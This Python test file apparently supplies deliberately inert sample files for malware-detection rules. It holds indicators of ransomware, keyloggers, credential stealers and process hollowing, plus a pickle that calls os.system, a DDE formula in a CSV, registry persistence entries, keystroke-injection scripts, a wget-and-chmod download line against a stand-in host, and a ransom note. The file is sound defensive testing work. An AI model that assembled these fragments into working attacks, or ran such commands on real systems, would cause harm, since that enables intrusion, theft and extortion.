"""Inert samples for our rules: programs, documents, shortcuts, settings and texts. Addresses lead nowhere, nothing in here works."""

import pickle
from typing import Final

from tests.samples.files import elf, ole, pdf, pe, shortcut

_X86 = bytes.fromhex("fce8820000006089e5")
_X64 = bytes.fromhex("fc4883e4f0e8c00000004151")
_NO = "http://host.invalid"


class _Call:
    def __reduce__(self) -> tuple[object, tuple[str]]:
        import os

        return os.system, ("echo never run",)


def _text(*lines: str) -> bytes:
    return "\r\n".join((*lines, "")).encode()


def _program(*strings: str, wide: bool = False) -> bytes:
    return pe() + b"\0".join(one.encode("utf-16-le" if wide else "utf-8") for one in ("", *strings, ""))


def _class(hexadecimal: str) -> bytes:
    return ole("Contents", root_class=bytes.fromhex(hexadecimal))


def _masked_program() -> bytes:
    return bytes(128) + bytes(byte ^ 0x5A for byte in b"....This program cannot be run in DOS mode....") + bytes(range(256)) * 4


# name of the rule: (name of the file, its bytes)
SAMPLES: Final[dict[str, tuple[str, bytes]]] = {
    # --- programs (headers only)
    "program_packed_upx": ("a.exe", _program("UPX!", "$Info: This file is packed with the UPX executable packer")),
    "program_packed_against_reading": ("a.exe", pe(sections=(b".vmp0", b".vmp1"))),
    "program_made_from_python": ("a.exe", pe() + bytes.fromhex("4d45490c0b0a0b0e")),
    "program_made_from_script": ("a.exe", _program("AU3!EA06")),
    "archive_that_starts_unseen": ("a.exe", _program("x\r\nPath=%TEMP%\r\nSetup=a.exe\r\nSilent=1\r\n")),
    "program_for_ransom": (
        "a.exe",
        _program("vssadmin delete shadows /all", "All your files have been encrypted", "send bitcoin"),
    ),
    "program_dumps_logon_secrets": ("a.exe", _program("sekurlsa::x", "privilege::debug", wide=True)),
    "program_records_keys": (
        "a.exe",
        _program("GetAsyncKeyState", "GetForegroundWindow", "[ENTER]", "[BACKSPACE]", "[CAPSLOCK]", "[TAB]"),
    ),
    "program_collects_secrets": (
        "a.exe",
        _program(
            r"\Google\Chrome\User Data",
            r"\Mozilla\Firefox\Profiles",
            "wallet.dat",
            "exodus.wallet",
            r"\Electrum\wallets",
            r"Telegram Desktop\tdata",
        ),
    ),
    "program_sends_to_chat_service": ("a.exe", _program("https://api.telegram.org/bot", "GetAsyncKeyState", "CopyFromScreen")),
    "library_loads_itself": ("a.dll", _program("ReflectiveLoader")),
    "program_takes_over_another": (
        "a.exe",
        _program("NtUnmapViewOfSection", "VirtualAllocEx", "WriteProcessMemory", "SetThreadContext", "ResumeThread", "CreateProcessA"),
    ),
    "program_spreads_by_sticks": (
        "a.exe",
        _program("autorun.inf", "[autorun]", "open=a.exe", "GetDriveTypeA", "CopyFileA", "SetFileAttributesA"),
    ),
    "program_gains_rights_without_asking": (
        "a.exe",
        _program("Elevation:Administrator!new:{3E5FC7F9-9A51-4367-9063-A120244FBEC7}", wide=True),
    ),
    "program_blinds_protection": ("a.exe", _program("AmsiScanBuffer", "amsi.dll", "EtwEventWrite", "VirtualProtect")),
    "program_starts_powershell_unseen": ("a.exe", _program("powershell -w hidden -enc AAAA")),
    "program_hides_in_linux": (
        "a.so",
        elf() + b"\0readdir64\0dlsym\0/etc/ld.so.preload\0/proc/net/tcp\0/bin/sh\0",
    ),
    "program_mines_coins": ("a", elf() + b"\0stratum+tcp://\0donate-level\0"),
    "program_takes_over_small_devices": ("a", elf() + b"\0/bin/busybox ABCDE\0wget http://host.invalid/a; chmod 777 a\0"),
    "program_asks_for_mac_password": (
        "a",
        bytes.fromhex("cffaedfe0700000103000000020000000000000000000000")
        + b"\0" * 100
        + b'display dialog "x" with hidden answer\0dscl . authonly\0',
    ),
    # --- bytes that lie elsewhere
    "injected_machine_code": ("a.bin", b"\x01\x02\x03\x00\xff\xfe\x80" * 40 + _X86 + b"\x00\x90\xff" + _X64 + b"\x01\x00\xff" * 40),
    "masked_windows_program": ("a.dat", _masked_program()),
    "pickle_starts_commands": ("a.pkl", pickle.dumps(_Call(), protocol=4)),
    # --- documents
    "document_with_old_equation": ("a.doc", _class("02ce020000000000c000000000000046")),
    "rich_text_equation_that_loads_itself": ("a.rtf", rb"{\rtf1{\object\objupdate{\*\objclass Equation.3}{\*\objdata 00}}}"),
    "rich_text_link_that_loads_itself": ("a.rtf", rb"{\rtf1{\object\objupdate{\*\objdata 4f4c45324c696e6b}}}"),
    "rich_text_with_bent_beginning": ("a.rtf", rb"{\rtx{\object{\*\objdata 00}}}"),
    "document_fetches_object_by_address": (
        "a.doc",
        ole("\1Ole") + bytes.fromhex("e0c9ea79f9bace118c8200aa004ba90b") + "http://host.invalid".encode("utf-16-le") + b"OLE2Link",
    ),
    "document_holds_browser_or_script_object": ("a.doc", _class("c32ab2eac130cf11a7eb0000c05bae0b")),
    "document_with_flash": ("a.ppt", _class("6edb7cd26daecf1196b8444553540000")),
    "pdf_breaks_reader": ("a.pdf", pdf() + b"util.printf('%45000f', 1)"),
    "pdf_gives_logon_away": ("a.pdf", pdf().replace(b"/Type/Page/", rb"/Type/Page/AA<</O<</S/GoToE/F(\\\\192.0.2.1\\a)>>>>/")),
    "notebook_with_script": (
        "a.one",
        bytes.fromhex("e4525c7b8cd8a74daeb15378d02996d3")
        + b"\0" * 1024
        + bytes.fromhex("e716e3bd65261145a4c48d4d0b7a9eac")
        + b"\0" * 20
        + b"<hta:application><script>WScript.Shell</script>",
    ),
    # --- shortcuts
    "shortcut_carries_file_in_itself": (
        "a.lnk",
        shortcut(r"C:\Windows\System32\cmd.exe", "/c findstr /b x report.lnk > a.vbs"),
    ),
    "shortcut_with_foreign_content": ("a.lnk", shortcut(r"C:\Windows\explorer.exe") + b"\0\0\0\0<script>x</script>"),
    "shortcut_dressed_as_document": (
        "a.lnk",
        shortcut(r"C:\Windows\System32\cmd.exe", "/c start https://host.invalid", icon=r"C:\Program Files\winword.exe"),
    ),
    "shortcut_spells_its_command": ("a.lnk", shortcut(r"C:\Windows\System32\cmd.exe", "/c p^o^w^e^r^s^h^e^l^l x")),
    # --- settings
    "registry_starts_interpreter_with_windows": (
        "a.reg",
        _text(
            "Windows Registry Editor Version 5.00",
            "",
            r"[HKEY_CURRENT_USER\Software\Microsoft\Windows\CurrentVersion\Run]",
            '"a"="mshta x"',
        ),
    ),
    "registry_replaces_program": (
        "a.reg",
        _text(
            "REGEDIT4",
            "",
            r"[HKLM\Software\Microsoft\Windows NT\CurrentVersion\Image File Execution Options\sethc.exe]",
            '"Debugger"="cmd"',
        ),
    ),
    "registry_switches_protection_off": ("a.reg", _text("REGEDIT4", "", r"[HKLM\x]", '"DisableAntiSpyware"=dword:00000001')),
    "registry_locks_person_out": ("a.reg", _text("REGEDIT4", "", r"[HKCU\x]", '"DisableTaskMgr"=dword:00000001')),
    "setup_information_runs_script": (
        "a.inf",
        _text("[Version]", "Signature=x", "[DefaultInstall]", "UnRegisterOCXs=a", "[a]", f"%11%\\scrobj.dll,NI,{_NO}/a.sct"),
    ),
    "remote_desktop_opens_own_drives": (
        "a.rdp",
        _text("full address:s:host.invalid", "drivestoredirect:s:*", "redirectclipboard:i:1"),
    ),
    "theme_fetches_from_file_server": ("a.theme", _text("[Theme]", "DisplayName=a", r"BrandImage=\\192.0.2.1\a.png")),
    "screen_saver_line_starts_program": ("a.theme", _text("[boot]", r"SCRNSAVE.EXE=.\holiday.scr")),
    "profile_sends_traffic_elsewhere": (
        "a.mobileconfig",
        b"<?xml version='1.0'?><plist><key>PayloadType</key><string>com.apple.security.root</string><string>com.apple.vpn.managed</string></plist>",
    ),
    # --- devices that type
    "keystroke_script": ("payload.txt", b"DELAY 1000\nGUI r\nDELAY 200\nSTRING notepad\nENTER\n"),
    "keystroke_device_mode": ("payload.txt", b"ATTACKMODE HID STORAGE\nWAIT\n"),
    "keystroke_firmware_source": (
        "a.ino",
        b'#include "Keyboard.h"\nvoid setup() {\n  Keyboard.press(KEY_LEFT_GUI);\n  Keyboard.print("cmd");\n}\n',
    ),
    "keystroke_script_in_javascript": ("a.js", b'layout("us")\npress("GUI r")\ntype("cmd /c x")\n'),
    "keystroke_data": ("inject.bin", b"\0\xff\0\xff\x15\x08\0\xc8\x11\0\x12\0\x17\0\x08\0\x13\0\x04\0\x07\0\x28\0"),
    # --- texts that work on people
    "table_starts_command": ("a.csv", b"name,sum\nx,=cmd|'/c x'!A0\n"),
    "symbolic_link_table_starts_command": ("a.slk", b'ID;P\nC;X1;Y1;EEXEC("x")\nE\n'),
    "query_fetches_from_web": ("a.iqy", b"WEB\n1\nhttp://host.invalid/a\n"),
    "ransom_note": (
        "README.txt",
        b"All your files have been encrypted.\nPay in bitcoin and write to x@onionmail.\nDo not rename files.\nYour personal id: 0\n",
    ),
}
